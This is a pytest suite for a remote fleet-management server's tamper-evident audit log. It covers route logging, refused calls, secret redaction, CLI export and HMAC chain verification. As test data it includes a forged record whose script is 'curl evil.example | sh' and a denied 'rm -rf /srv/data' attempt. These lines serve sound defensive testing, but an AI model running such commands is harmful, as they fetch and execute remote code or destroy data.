"""The audit trail, end to end, against real server processes.

Every state-changing API route writes one record (with who, what, on what, from
where and how it ended); refused tokens, refused operators, failed calls and
agents with a wrong credential are recorded too; no secret ever lands in a
record; the CLI's filters and export return what the API holds; and whoever can
write the database but does not hold DATA/audit-key cannot change, remove,
insert or re-chain records without ``tether audit verify`` saying so (SQLite and
PostgreSQL).
"""

from __future__ import annotations

import contextlib
import dataclasses
import hashlib
import hmac
import json
import re
import sqlite3
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from harness import Agent, Server, postgres_database
from tether.cli.client import ApiFailure, Client
from tether.server.access.audit_chain import Checkpoint, sign_checkpoint
from tether.server.app import build_app
from tether.server.config import Settings
from tether.server.store.audit_anchor import read_anchor

Record = dict[str, Any]
STATE_CHANGING = frozenset({"POST", "PUT", "PATCH", "DELETE"})
GENESIS = "0" * 64
# What the chain hashes, in the server's canonical form (access/audit_chain.py):
# rewritten here from the outside, as someone forging records would have to.
HASHED = ("seq", "at", "actor", "action", "target", "source", "outcome", "detail")
COLUMNS = (*HASHED, "prev_hash", "hash")
UNKNOWN_NODE = "mi-" + "0" * 17


# -- helpers -------------------------------------------------------------------


def api(server: Server, token: str | None = None) -> Client:
    return Client(server.url, server.token if token is None else token)


def audit(server: Server, **query: Any) -> list[Record]:
    records: list[Record] = api(server).get("/audit", limit=100_000, **query)
    return records


def last_seq(server: Server) -> int:
    newest = api(server).get("/audit", limit=1)
    return int(newest[-1]["seq"]) if newest else 0


def records_after(server: Server, seq: int) -> list[Record]:
    return [r for r in audit(server) if r["seq"] > seq]


def only_new_record(server: Server, seq: int, also: tuple[str, ...] = ()) -> Record:
    """The one new record of an API call; ``also``: actions the call adds besides."""
    new = [r for r in records_after(server, seq) if r["action"] not in also]
    assert len(new) == 1, f"expected exactly one new audit record, got {new}"
    return new[0]


def refused(call: Callable[[], Any]) -> ApiFailure:
    with pytest.raises(ApiFailure) as info:
        call()
    return info.value


def identity(agent: Agent) -> dict[str, str]:
    body: dict[str, str] = json.loads((agent.state_dir / "identity.json").read_text())
    return body


def verify_cli(server: Server, *args: str) -> tuple[int, dict[str, Any]]:
    result = server.cli_raw("audit", "verify", "--json", *args)
    assert result.returncode in (0, 1), result.stderr
    return result.returncode, json.loads(result.stdout)


def verdict_of(server: Server, *args: str) -> tuple[int, dict[str, Any]]:
    """``verify_cli`` without the parts that change with every call (a new checkpoint)."""
    code, verdict = verify_cli(server, *args)
    return code, {k: verdict[k] for k in ("ok", "records", "problem", "seq", "state")}


def intact(records: int) -> tuple[int, dict[str, Any]]:
    return 0, {"ok": True, "records": records, "problem": None, "seq": None, "state": "intact"}


def export_cli(server: Server) -> str:
    result = server.cli_raw("audit", "export")
    assert result.returncode == 0, result.stderr
    return result.stdout


def export_records(server: Server) -> tuple[list[Record], dict[str, Any]]:
    """An export's records, and the signed checkpoint it ends with."""
    *records, last = (json.loads(line) for line in export_cli(server).splitlines())
    return records, last["checkpoint"]


def state_changing_routes(data_dir: Path) -> set[str]:
    """``METHOD /api/v1/...`` of every state-changing route of the app (not started)."""
    found: set[str] = set()

    def walk(routes: Any) -> None:
        for route in routes:
            contexts = getattr(route, "effective_route_contexts", None)
            if contexts is not None:  # an included router (FastAPI >= 0.13x)
                walk(contexts())
                continue
            if hasattr(route, "routes"):  # a mount
                walk(route.routes)
            path = getattr(route, "path", "")
            for method in (getattr(route, "methods", None) or set()) & STATE_CHANGING:
                if path.startswith("/api/v1/"):
                    found.add(f"{method} {path}")

    walk(build_app(Settings.for_data_dir(data_dir)).app.routes)
    return found


# -- 1. every state-changing route writes a record --------------------------------


@dataclasses.dataclass
class Expect:
    actor: str
    target: str | None
    status: int
    check: Callable[[Record], None] = lambda record: None


@dataclasses.dataclass
class Fleet:
    """What the route calls made so far, for the calls after them."""

    server: Server
    tmp: Path
    admin: str
    ids: dict[str, str] = dataclasses.field(default_factory=dict)
    secrets: list[str] = dataclasses.field(default_factory=list)
    agent: Agent | None = None

    @property
    def client(self) -> Client:
        return api(self.server)


def _create_activation(f: Fleet) -> Expect:
    act = f.client.post("/activations", {"registration_limit": 2, "tags": {"site": "lab"}})
    f.ids["activation"], f.ids["code"] = act["activation_id"], act["activation_code"]
    f.secrets.append(act["activation_code"])

    def check(record: Record) -> None:
        assert record["detail"]["limit"] == 2
        assert record["detail"]["tags"] == {"site": "lab"}

    return Expect(f.admin, act["activation_id"], 201, check)


def _register(f: Fleet) -> Expect:
    """A real agent registers (POST /api/v1/registrations with the id and code)."""
    f.agent = Agent(f.server, f.tmp / "agent").register(f.ids["activation"], f.ids["code"])
    f.ids["node"] = f.agent.node_id
    f.secrets.append(identity(f.agent)["credential"])

    def check(record: Record) -> None:
        assert f.ids["code"] not in json.dumps(record)
        assert record["detail"]["replaces"] is None

    return Expect(f"activation:{f.ids['activation']}", f.agent.node_id, 201, check)


def _tag_node(f: Fleet) -> Expect:
    f.client.request("PATCH", f"/nodes/{f.ids['node']}/tags",
                     body={"set": {"role": "audited"}, "remove": ["site"]})

    def check(record: Record) -> None:
        assert record["detail"]["set"] == {"role": "audited"}
        assert record["detail"]["remove"] == ["site"]

    return Expect(f.admin, f.ids["node"], 200, check)


def _run_command(f: Fleet) -> Expect:
    script = "echo audited from $(hostname)"
    cmd = f.client.post("/commands", {"targets": [f.ids["node"]], "script": script,
                                      "delivery_timeout": 3600})
    f.ids["command"] = cmd["command_id"]

    def check(record: Record) -> None:
        assert record["detail"]["script"] == script
        assert record["detail"]["targets"] == [f.ids["node"]]
        assert record["detail"]["nodes"] == 1

    return Expect(f.admin, cmd["command_id"], 201, check)


def _cancel_command(f: Fleet) -> Expect:
    f.client.post(f"/commands/{f.ids['command']}/cancel")
    return Expect(f.admin, f.ids["command"], 200)


def _rotate_credential(f: Fleet) -> Expect:
    """Needs the agent connected: started for this call, stopped after it."""
    assert f.agent is not None
    old = identity(f.agent)["credential"]
    f.agent.start().connected()
    try:
        f.client.post(f"/nodes/{f.ids['node']}/rotate-credential")
        deadline = time.monotonic() + 30
        while identity(f.agent)["credential"] == old:
            assert time.monotonic() < deadline, "the agent never got its new credential"
            time.sleep(0.05)  # polling interval of a deadline-bound poll
        f.secrets.append(identity(f.agent)["credential"])  # must not reach any record
    finally:
        f.agent.stop()
    return Expect(f.admin, f.ids["node"], 202)


def _start_session(f: Fleet) -> Expect:
    """Its record is the session's start: which session, what it reaches, its recording."""
    assert f.agent is not None
    f.agent.start().connected()
    session = f.client.post("/sessions", {"node_id": f.ids["node"], "kind": "shell"})
    f.ids["session"] = session["session_id"]

    def check(record: Record) -> None:
        assert record["detail"]["session_id"] == session["session_id"]
        assert record["detail"]["kind"] == "shell"
        assert record["detail"]["recording"] == session["recording"]

    return Expect(f.admin, f.ids["node"], 201, check)


def _terminate_session(f: Fleet) -> Expect:
    """Besides the call's record, the session's end ("session end", checked after)."""
    assert f.agent is not None
    try:
        f.client.post(f"/sessions/{f.ids['session']}/terminate")
    finally:
        f.agent.stop()
    return Expect(f.admin, f.ids["node"], 200)


def _deregister_node(f: Fleet) -> Expect:
    f.client.request("DELETE", f"/nodes/{f.ids['node']}")
    return Expect(f.admin, f.ids["node"], 200)


def _create_operator(f: Fleet) -> Expect:
    f.client.post("/operators", {"name": "route-op", "roles": ["viewer"]})

    def check(record: Record) -> None:
        assert record["detail"]["roles"] == ["viewer"]

    return Expect(f.admin, "route-op", 201, check)


def _update_operator(f: Fleet) -> Expect:
    f.client.request("PATCH", "/operators/route-op", body={"roles": ["operator"]})

    def check(record: Record) -> None:
        assert record["detail"]["roles"] == ["operator"]

    return Expect(f.admin, "route-op", 200, check)


def _create_token(f: Fleet) -> Expect:
    tok = f.client.post("/tokens", {"operator": "route-op", "label": "audit test"})
    f.ids["token"] = tok["token_id"]
    f.secrets.append(tok["token"])

    def check(record: Record) -> None:
        assert record["detail"]["operator"] == "route-op"
        assert tok["token"] not in json.dumps(record)

    return Expect(f.admin, tok["token_id"], 201, check)


def _revoke_token(f: Fleet) -> Expect:
    f.client.request("DELETE", f"/tokens/{f.ids['token']}")
    return Expect(f.admin, f.ids["token"], 200)


def _disable_operator(f: Fleet) -> Expect:
    f.client.request("DELETE", "/operators/route-op")
    return Expect(f.admin, "route-op", 200)


def _revoke_activation(f: Fleet) -> Expect:
    f.client.request("DELETE", f"/activations/{f.ids['activation']}")
    return Expect(f.admin, f.ids["activation"], 200)


# In the order they are called: later calls use what earlier ones made. A new
# state-changing route fails the test below until it has an entry here.
ROUTE_CALLS: dict[str, Callable[[Fleet], Expect]] = {
    "POST /api/v1/activations": _create_activation,
    "POST /api/v1/registrations": _register,
    "PATCH /api/v1/nodes/{node_id}/tags": _tag_node,
    "POST /api/v1/commands": _run_command,
    "POST /api/v1/commands/{command_id}/cancel": _cancel_command,
    "POST /api/v1/nodes/{node_id}/rotate-credential": _rotate_credential,
    "POST /api/v1/sessions": _start_session,
    "POST /api/v1/sessions/{session_id}/terminate": _terminate_session,
    "DELETE /api/v1/nodes/{node_id}": _deregister_node,
    "POST /api/v1/operators": _create_operator,
    "PATCH /api/v1/operators/{name}": _update_operator,
    "POST /api/v1/tokens": _create_token,
    "DELETE /api/v1/tokens/{token_id}": _revoke_token,
    "DELETE /api/v1/operators/{name}": _disable_operator,
    "DELETE /api/v1/activations/{activation_id}": _revoke_activation,
}


def test_every_state_changing_route_writes_one_audit_record(sqlite_server: Server,
                                                            tmp_path: Path) -> None:
    routes = state_changing_routes(tmp_path / "unstarted")
    assert "POST /api/v1/commands" in routes, routes  # the walk found the API at all
    assert not routes - ROUTE_CALLS.keys(), (
        f"state-changing routes with no audit check: {sorted(routes - ROUTE_CALLS.keys())}")
    assert not ROUTE_CALLS.keys() - routes, "routes in the table the app no longer has"

    server = sqlite_server
    fleet = Fleet(server, tmp_path, admin=api(server).get("/whoami")["operator"])
    for action, call in ROUTE_CALLS.items():
        before = last_seq(server)
        expect = call(fleet)
        record = only_new_record(server, before, also=("session end",))
        assert record["action"] == action
        assert record["actor"] == expect.actor, (action, record)
        assert record["outcome"] == "ok", (action, record)
        assert record["target"] == expect.target, (action, record)
        assert record["source"] == "127.0.0.1"
        assert record["detail"]["status"] == expect.status, (action, record)
        expect.check(record)
    ends = [r for r in records_after(server, 0) if r["action"] == "session end"]
    assert [r["detail"]["session_id"] for r in ends] == [fleet.ids["session"]], ends
    assert ends[0]["actor"] == fleet.admin and ends[0]["target"] == fleet.ids["node"]
    assert ends[0]["detail"]["reason"] == "ended by its operator"
    assert ends[0]["detail"]["recording"].endswith(f"{fleet.ids['session']}.cast")

    # The agent registers again with --force (under a new activation: the first one
    # is revoked): its old credential goes to the server to prove the old identity,
    # and must not reach the record either.
    assert fleet.agent is not None
    old_node = fleet.agent.node_id
    act_id, code = server.activation()
    fleet.secrets.append(code)
    before = last_seq(server)
    result = fleet.agent.register_raw(act_id, code, "--force")
    assert result.returncode == 0, result.stderr
    new_node = identity(fleet.agent)["node_id"]
    fleet.secrets.append(identity(fleet.agent)["credential"])
    record = only_new_record(server, before)
    assert (record["action"], record["actor"], record["outcome"], record["target"]) == (
        "POST /api/v1/registrations", f"activation:{act_id}", "ok", new_node)
    assert record["detail"]["replaces"] == old_node

    export = export_cli(server)
    assert len(fleet.secrets) == 6  # codes, credentials (the rotated one too), token
    for secret in fleet.secrets:
        assert secret not in export
    assert server.token not in export


# -- 2. refused and failed calls -------------------------------------------------


def test_refused_and_failed_calls_are_recorded(sqlite_server: Server, tmp_path: Path) -> None:
    server = sqlite_server
    admin = api(server)
    act_id, code = server.activation("--limit", "1")
    node = Agent(server, tmp_path / "agent").register(act_id, code).node_id
    bad_token = "tot_" + "x" * 43

    # A wrong token on a read: refused before any route ran, recorded anyway.
    before = last_seq(server)
    assert refused(lambda: api(server, bad_token).get("/nodes")).status == 401
    record = only_new_record(server, before)
    assert (record["actor"], record["action"], record["outcome"], record["target"]) == (
        "anonymous", "GET /api/v1/nodes", "denied", None)
    assert record["detail"]["status"] == 401
    assert record["source"] == "127.0.0.1"

    # ... and on a write: one record, not two.
    before = last_seq(server)
    failure = refused(lambda: api(server, bad_token).post(
        "/commands", {"targets": [node], "script": "echo no"}))
    assert failure.status == 401
    record = only_new_record(server, before)
    assert (record["actor"], record["action"], record["outcome"]) == (
        "anonymous", "POST /api/v1/commands", "denied")

    # A viewer may not send commands: 403, recorded under the viewer's name.
    admin.post("/operators", {"name": "watcher", "roles": ["viewer"]})
    viewer_token = admin.post("/tokens", {"operator": "watcher"})["token"]
    before = last_seq(server)
    failure = refused(lambda: api(server, viewer_token).post(
        "/commands", {"targets": [node], "script": "rm -rf /srv/data"}))
    assert failure.status == 403
    record = only_new_record(server, before)
    assert (record["actor"], record["action"], record["outcome"]) == (
        "watcher", "POST /api/v1/commands", "denied")
    assert record["detail"]["status"] == 403
    assert record["detail"]["script"] == "rm -rf /srv/data"  # what was attempted
    assert record["detail"]["targets"] == [node]

    # Deregistering a node that does not exist: failed, 404, on that node.
    before = last_seq(server)
    assert refused(lambda: admin.request("DELETE", f"/nodes/{UNKNOWN_NODE}")).status == 404
    record = only_new_record(server, before)
    assert (record["actor"], record["action"], record["outcome"], record["target"]) == (
        "admin", "DELETE /api/v1/nodes/{node_id}", "failed", UNKNOWN_NODE)
    assert record["detail"]["status"] == 404

    # A body the API rejects: failed, 422.
    before = last_seq(server)
    assert refused(lambda: admin.post("/commands", {"targets": [], "script": "x"})).status == 422
    record = only_new_record(server, before)
    assert (record["action"], record["outcome"], record["detail"]["status"]) == (
        "POST /api/v1/commands", "failed", 422)

    # A device with a wrong activation code: denied, under the activation it named.
    wrong_code = code[:-4] + ("AAAA" if not code.endswith("AAAA") else "BBBB")
    before = last_seq(server)
    result = Agent(server, tmp_path / "intruder").register_raw(act_id, wrong_code)
    assert result.returncode != 0
    record = only_new_record(server, before)
    assert (record["actor"], record["action"], record["outcome"], record["target"]) == (
        f"activation:{act_id}", "POST /api/v1/registrations", "denied", None)
    assert record["detail"]["status"] == 403

    anonymous = server.cli("audit", "list", "--actor", "anonymous")
    assert {r["action"] for r in anonymous} >= {"GET /api/v1/nodes", "POST /api/v1/commands"}
    assert all(r["outcome"] == "denied" for r in anonymous)
    export = export_cli(server)
    for secret in (bad_token, viewer_token, code, wrong_code):
        assert secret not in export


def test_a_tag_longer_than_its_column_is_refused_and_recorded(tmp_path: Path) -> None:
    """Found by this suite: a 200-character key was a 500 on PostgreSQL, with no record."""
    with postgres_database() as url:
        server = Server(tmp_path / "data", database_url=url).start()
        try:
            act = api(server).post("/activations", {})
            node = api(server, "").post("/registrations", {
                "activation_id": act["activation_id"],
                "activation_code": act["activation_code"]})["node_id"]
            before = last_seq(server)
            failure = refused(lambda: api(server).request(
                "PATCH", f"/nodes/{node}/tags", body={"set": {"k" * 200: "v"}}))
            assert failure.status == 422
            new = records_after(server, before)
            assert [(r["action"], r["outcome"], r["target"], r["detail"]["status"])
                    for r in new] == [("PATCH /api/v1/nodes/{node_id}/tags", "failed", node, 422)]
            assert api(server).get(f"/nodes/{node}")["tags"] == {}
        finally:
            server.stop()


# -- 3. an agent with a wrong credential ------------------------------------------


def test_an_agent_with_a_wrong_credential_is_refused_and_recorded(sqlite_server: Server,
                                                                  tmp_path: Path) -> None:
    server = sqlite_server
    agent = Agent(server, tmp_path / "agent").register().start().connected()
    agent.stop()
    ident = identity(agent)
    real_credential = ident["credential"]
    ident["credential"] = real_credential[:-6] + ("zzzzzz" if not real_credential.endswith(
        "zzzzzz") else "yyyyyy")
    (agent.state_dir / "identity.json").write_text(json.dumps(ident))
    before = last_seq(server)

    agent.start()
    try:
        assert agent.output is not None
        agent.output.wait_for(r"refused this agent", timeout=30)
        deadline = time.monotonic() + 30
        while True:
            refusals = [r for r in records_after(server, before)
                        if r["action"] == "agent connect"]
            if refusals:
                break
            assert time.monotonic() < deadline, records_after(server, before)
            time.sleep(0.1)  # polling interval of a deadline-bound poll
    finally:
        agent.stop()
    record = refusals[0]
    assert (record["actor"], record["outcome"], record["source"]) == (
        "agent", "denied", "127.0.0.1")
    assert agent.node_id in record["detail"]["reason"]
    assert record["target"] == agent.node_id  # so `audit list --node` finds it
    listed = server.cli("audit", "list", "--actor", "agent", "--action", "agent connect")
    assert record["seq"] in {r["seq"] for r in listed}
    by_node = server.cli("audit", "list", "--node", agent.node_id)
    assert record["seq"] in {r["seq"] for r in by_node}
    export = export_cli(server)
    assert real_credential not in export
    assert ident["credential"] not in export


# -- 5. the CLI's filters and export -------------------------------------------------


def test_cli_filters_and_export_match_the_api(sqlite_server: Server, tmp_path: Path) -> None:
    server = sqlite_server
    admin = api(server)
    admin.post("/operators", {"name": "filter-op", "roles": ["operator"]})
    op = api(server, admin.post("/tokens", {"operator": "filter-op"})["token"])
    act = op.post("/activations", {"registration_limit": 2})
    node = api(server, "").post("/registrations", {
        "activation_id": act["activation_id"], "activation_code": act["activation_code"],
        "computer_name": "filter-box"})["node_id"]
    other = api(server, "").post("/registrations", {
        "activation_id": act["activation_id"], "activation_code": act["activation_code"],
        "computer_name": "other-box"})["node_id"]
    op.request("PATCH", f"/nodes/{node}/tags", body={"set": {"rack": "7"}})
    cmd = op.post("/commands", {"targets": [node, other], "script": "uptime"})
    admin.request("PATCH", f"/nodes/{other}/tags", body={"set": {"rack": "8"}})
    everything = audit(server)

    def cli_list(*args: str) -> list[Record]:
        listed: list[Record] = server.cli("audit", "list", *args)
        return listed

    def check(args: tuple[str, ...], keep: Callable[[Record], bool]) -> list[Record]:
        expected = [r for r in everything if keep(r)]
        got = cli_list(*args)
        assert got == expected, args
        assert expected and len(expected) < len(everything), args  # the filter filtered
        return got

    by_actor = check(("--actor", "filter-op"), lambda r: r["actor"] == "filter-op")
    assert [r["action"] for r in by_actor] == [
        "POST /api/v1/activations", "PATCH /api/v1/nodes/{node_id}/tags",
        "POST /api/v1/commands"]
    by_action = check(("--action", "/commands"), lambda r: "/commands" in r["action"])
    assert cmd["command_id"] in {r["target"] for r in by_action}
    by_node = check(("--node", node), lambda r: r["target"] == node)
    assert [(r["actor"], r["action"]) for r in by_node] == [
        (f"activation:{act['activation_id']}", "POST /api/v1/registrations"),
        ("filter-op", "PATCH /api/v1/nodes/{node_id}/tags")]
    check(("--actor", "filter-op", "--action", "PATCH"),
          lambda r: r["actor"] == "filter-op" and "PATCH" in r["action"])
    assert cli_list("--actor", "nobody-at-all") == []
    # Everything here happened within the hour; an hour-long window keeps all of it.
    assert cli_list("--since", "1h") == everything
    # The window itself, at a record's own time: that record and the later ones.
    middle = everything[len(everything) // 2]
    assert audit(server, since=middle["at"]) == [r for r in everything
                                                 if r["at"] >= middle["at"]]
    assert audit(server, since=time.time() + 60) == []

    # Export: one JSON object per line, oldest first, with hashes; what the API holds;
    # then the checkpoint: the newest record's seq and hash, signed by the server.
    exported, checkpoint = export_records(server)
    assert exported == audit(server)
    assert (checkpoint["seq"], checkpoint["hash"]) == (exported[-1]["seq"],
                                                       exported[-1]["hash"])
    assert re.fullmatch(r"[0-9a-f]{64}", checkpoint["mac"])
    assert exported[: len(everything)] == everything
    seqs = [r["seq"] for r in exported]
    assert seqs == sorted(seqs) and len(set(seqs)) == len(seqs)
    assert exported[0]["prev_hash"] == GENESIS
    for before_, after in zip(exported, exported[1:]):
        assert after["prev_hash"] == before_["hash"]
    assert all(re.fullmatch(r"[0-9a-f]{64}", r["hash"]) for r in exported)
    code, verdict = verify_cli(server)
    assert (code, verdict["ok"], verdict["records"]) == (0, True, len(exported))
    assert verdict["anchored"] == len(exported)  # the anchor: the newest record


# -- 4. tampering with the database -------------------------------------------------


class AuditTable:
    """The audit_log table as someone with the database, and not the key, sees it."""

    def __init__(self, server: Server) -> None:
        self.server = server
        self.pg = server.database_url is not None

    @contextlib.contextmanager
    def transaction(self) -> Iterator[Callable[..., list[tuple[Any, ...]]]]:
        if self.pg:
            import psycopg

            assert self.server.database_url is not None
            with psycopg.connect(self.server.database_url) as pg:  # commits on exit

                def run_pg(sql: str, *params: Any) -> list[tuple[Any, ...]]:
                    cur = pg.execute(sql.replace("?", "%s"), params)
                    return cur.fetchall() if cur.description else []

                yield run_pg
            return
        db = sqlite3.connect(self.server.data_dir / "tether.db", timeout=30)
        try:
            with db:

                def run_sqlite(sql: str, *params: Any) -> list[tuple[Any, ...]]:
                    return db.execute(sql, params).fetchall()

                yield run_sqlite
        finally:
            db.close()

    def rows(self) -> list[Record]:
        with self.transaction() as run:
            raw = run(f"SELECT {', '.join(COLUMNS)} FROM audit_log ORDER BY seq")
        rows = [dict(zip(COLUMNS, r)) for r in raw]
        for r in rows:
            if isinstance(r["detail"], str):
                r["detail"] = json.loads(r["detail"])
        return rows

    def insert(self, run: Callable[..., Any], record: Record) -> None:
        if self.pg:
            from psycopg.types.json import Json

            detail: Any = Json(record["detail"])
        else:
            detail = json.dumps(record["detail"])
        values = [detail if c == "detail" else record[c] for c in COLUMNS]
        run(f"INSERT INTO audit_log ({', '.join(COLUMNS)}) VALUES "
            f"({', '.join('?' for _ in COLUMNS)})", *values)

    def replace_all(self, records: list[Record]) -> None:
        with self.transaction() as run:
            run("DELETE FROM audit_log")
            for record in records:
                self.insert(run, record)


def chain_hash(prev_hash: str, record: Record, key: bytes | None) -> str:
    body = json.dumps({f: record[f] for f in HASHED}, sort_keys=True, separators=(",", ":"),
                      ensure_ascii=True, allow_nan=False)
    message = prev_hash.encode("ascii") + b"\n" + body.encode("ascii")
    if key is None:  # all a forger with only the database can do
        return hashlib.sha256(message).hexdigest()
    return hmac.new(key, message, hashlib.sha256).hexdigest()


def forged(like: Record, seq: int, prev_hash: str) -> Record:
    record = {**like, "seq": seq, "actor": "admin", "action": "POST /api/v1/commands",
              "outcome": "ok", "target": "00000000-0000-4000-8000-000000000000",
              "detail": {"status": 201, "script": "curl evil.example | sh"},
              "prev_hash": prev_hash}
    record["hash"] = hashlib.sha256(json.dumps(record["detail"]).encode()).hexdigest()
    return record


def make_activity(server: Server) -> None:
    """A dozen records of several kinds: operators, a device, a command, refusals."""
    admin = api(server)
    for limit in (1, 2):
        admin.post("/activations", {"registration_limit": limit, "tags": {"n": str(limit)}})
    act = admin.post("/activations", {})
    node = api(server, "").post("/registrations", {
        "activation_id": act["activation_id"], "activation_code": act["activation_code"],
        "computer_name": "chained"})["node_id"]
    admin.request("PATCH", f"/nodes/{node}/tags", body={"set": {"env": "prod"}})
    admin.post("/commands", {"targets": [node], "script": "echo 'chained' \"é\" \\n"})
    admin.post("/operators", {"name": "chain-op", "roles": ["viewer"]})
    admin.post("/tokens", {"operator": "chain-op", "label": "ünïcode label"})
    refused(lambda: api(server, "bogus").get("/commands"))
    refused(lambda: admin.request("DELETE", f"/nodes/{UNKNOWN_NODE}"))
    admin.request("DELETE", f"/nodes/{node}")


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def chained(request: pytest.FixtureRequest,
            tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    data_dir = tmp_path_factory.mktemp(f"chained-{request.param}") / "data"
    with contextlib.ExitStack() as stack:
        url = stack.enter_context(postgres_database()) if request.param == "postgresql" \
            else None
        srv = Server(data_dir, database_url=url).start()
        stack.callback(srv.stop)
        make_activity(srv)
        yield srv


def test_verify_says_intact_after_activity(chained: Server) -> None:
    code, verdict = verdict_of(chained)
    records = audit(chained)
    assert len(records) >= 10
    assert (code, verdict) == intact(len(records))
    human = chained.cli_raw("audit", "verify")
    assert human.returncode == 0
    assert f"{len(records)} records" in human.stdout
    # The table holds what the API shows, and its hashes are HMACs under DATA/audit-key
    # over the canonical form above (so the re-chaining test below forges faithfully).
    rows = AuditTable(chained).rows()
    assert rows == records
    key = bytes.fromhex((chained.data_dir / "audit-key").read_text().strip())
    for r in rows:
        assert chain_hash(r["prev_hash"], r, key) == r["hash"]
        assert chain_hash(r["prev_hash"], r, None) != r["hash"]


def test_verify_takes_a_checkpoint_whole_in_one_parameter(chained: Server) -> None:
    """``GET /audit/verify?checkpoint=SEQ:HASH:AT:MAC``: the document's one parameter is
    the whole contract (four that only worked together were an ST202 for schemathesis).
    A checkpoint that reads is answered 200 with what it shows; one that does not is a
    422 ErrorBody naming the form."""
    admin = api(chained)
    head = admin.get("/audit/verify")["checkpoint"]
    cp = Checkpoint.from_dict(head)
    given = admin.get("/audit/verify", checkpoint=cp.as_param())
    assert (given["state"], given["anchored"]) == ("intact", head["seq"]), given
    forged = dataclasses.replace(cp, mac=cp.mac[::-1])
    assert admin.get("/audit/verify", checkpoint=forged.as_param())["state"] == "tampered"
    ahead = sign_checkpoint(b"another key" * 3, cp.seq + 5, cp.hash, cp.at)
    assert admin.get("/audit/verify", checkpoint=ahead.as_param())["state"] == "tampered"
    for junk in (f"{cp.seq}:{cp.hash}:{cp.at!r}", f"{cp.seq}:{cp.hash}:nan:{cp.mac}", ""):
        failure = refused(lambda junk=junk: admin.get("/audit/verify", checkpoint=junk))
        assert (failure.status, failure.code) == (422, "invalid_request"), failure
    document = admin.get("/openapi.json")["paths"]["/api/v1/audit/verify"]["get"]
    assert [(p["name"], p["in"], p.get("required", False)) for p in document["parameters"]] \
        == [("checkpoint", "query", False)]


def _change_a_field(table: AuditTable, rows: list[Record], k: int) -> tuple[int, str]:
    with table.transaction() as run:
        run("UPDATE audit_log SET actor = ? WHERE seq = ?", "someone-else", k)
    return k, "changed"


def _remove_a_record(table: AuditTable, rows: list[Record], k: int) -> tuple[int, str]:
    with table.transaction() as run:
        run("DELETE FROM audit_log WHERE seq = ?", k)
    return k + 1, "removed"


def _insert_a_record(table: AuditTable, rows: list[Record], k: int) -> tuple[int, str]:
    """Make room at seq k (shift the later ones up by one) and put a forged record there."""
    with table.transaction() as run:
        run("UPDATE audit_log SET seq = -seq - 1 WHERE seq >= ?", k)  # no key collisions
        run("UPDATE audit_log SET seq = -seq WHERE seq < 0")
        table.insert(run, forged(rows[k - 1], k, prev_hash=rows[k - 2]["hash"]))
    assert [r["seq"] for r in table.rows()] == list(range(1, len(rows) + 2))
    return k, "changed"


def _replace_a_record(table: AuditTable, rows: list[Record], k: int) -> tuple[int, str]:
    with table.transaction() as run:
        run("DELETE FROM audit_log WHERE seq = ?", k)
        table.insert(run, forged(rows[k - 1], k, prev_hash=rows[k - 1]["prev_hash"]))
    return k, "changed"


def _rechain_without_the_key(table: AuditTable, rows: list[Record],
                             k: int) -> tuple[int, str]:
    """Edit a record, then recompute every hash with plain SHA-256 to hide it."""
    edited = [dict(r) for r in rows]
    edited[k - 1]["actor"] = "someone-else"
    prev = GENESIS
    for r in edited:
        r["prev_hash"], r["hash"] = prev, chain_hash(prev, r, key=None)
        prev = r["hash"]
    with table.transaction() as run:
        for r in edited:
            run("UPDATE audit_log SET actor = ?, prev_hash = ?, hash = ? WHERE seq = ?",
                r["actor"], r["prev_hash"], r["hash"], r["seq"])
    assert table.rows() == edited  # a consistent chain, to anyone without the key
    return 1, "changed"


TAMPERING: dict[str, Callable[[AuditTable, list[Record], int], tuple[int, str]]] = {
    "changed": _change_a_field,
    "removed": _remove_a_record,
    "inserted": _insert_a_record,
    "replaced": _replace_a_record,
    "rechained": _rechain_without_the_key,
}


@pytest.mark.parametrize("how", list(TAMPERING))
def test_tampering_with_the_database_is_caught(chained: Server, how: str) -> None:
    """Edited behind the running server's back; verified through the server and CLI."""
    table = AuditTable(chained)
    rows = table.rows()
    assert [r["seq"] for r in rows] == list(range(1, len(rows) + 1))
    assert verdict_of(chained) == intact(len(rows))
    k = len(rows) // 2  # a record in the middle
    try:
        bad_seq, word = TAMPERING[how](table, rows, k)
        code, verdict = verify_cli(chained)
        assert code == 1, verdict
        assert verdict["ok"] is False
        assert verdict["seq"] == bad_seq, verdict
        assert word in verdict["problem"], verdict
        human = chained.cli_raw("audit", "verify")
        assert human.returncode == 1
        assert f"TAMPERED: record {bad_seq}" in human.stdout
    finally:
        table.replace_all(rows)
    assert verdict_of(chained) == intact(len(rows))


# -- 5. records cut off the end: the anchor and the export's checkpoint -------------


@pytest.mark.parametrize("keep", ["half", "none"])
def test_records_cut_off_the_end_are_caught(chained: Server, keep: str) -> None:
    """``DELETE FROM audit_log WHERE seq > k`` (or every row): what is left is a valid
    chain, but the server's anchor (DATA/audit-anchor) says how far the log went."""
    table = AuditTable(chained)
    rows = table.rows()
    assert verdict_of(chained) == intact(len(rows))
    k = len(rows) // 2 if keep == "half" else 0
    try:
        with table.transaction() as run:
            run("DELETE FROM audit_log WHERE seq > ?", k)
        code, verdict = verify_cli(chained)
        assert (code, verdict["ok"], verdict["state"], verdict["seq"]) == (
            1, False, "truncated", k + 1), verdict
        assert f"record {len(rows)} was written" in verdict["problem"]
        human = chained.cli_raw("audit", "verify")
        assert human.returncode == 1
        export = chained.cli_raw("audit", "export")  # what is left, but vouched for by none
        assert export.returncode == 1 and "no checkpoint written" in export.stderr
        assert "checkpoint" not in export.stdout
        if k:
            assert f"TRUNCATED: the log ends at record {k}" in human.stdout
            assert f"{len(rows) - k} records were cut off the end" in human.stdout
        else:
            assert "TRUNCATED: the log holds no records" in human.stdout
            assert "every record was removed" in human.stdout
    finally:
        table.replace_all(rows)
    assert verdict_of(chained) == intact(len(rows))


def test_a_record_appended_after_a_cut_keeps_the_gap_visible(sqlite_server: Server) -> None:
    """The server chains a new record on from its anchor, not from what the cut left,
    so the next call does not paper over the truncation."""
    server = sqlite_server
    for _ in range(4):
        api(server).post("/activations", {})
    table = AuditTable(server)
    rows = table.rows()
    k = len(rows) - 3
    with table.transaction() as run:
        run("DELETE FROM audit_log WHERE seq > ?", k)
    api(server).post("/activations", {})  # any state-changing call: one append
    after = table.rows()
    assert [r["seq"] for r in after[-2:]] == [k, len(rows) + 1]
    assert after[-1]["prev_hash"] == rows[-1]["hash"]  # chained on from the anchor
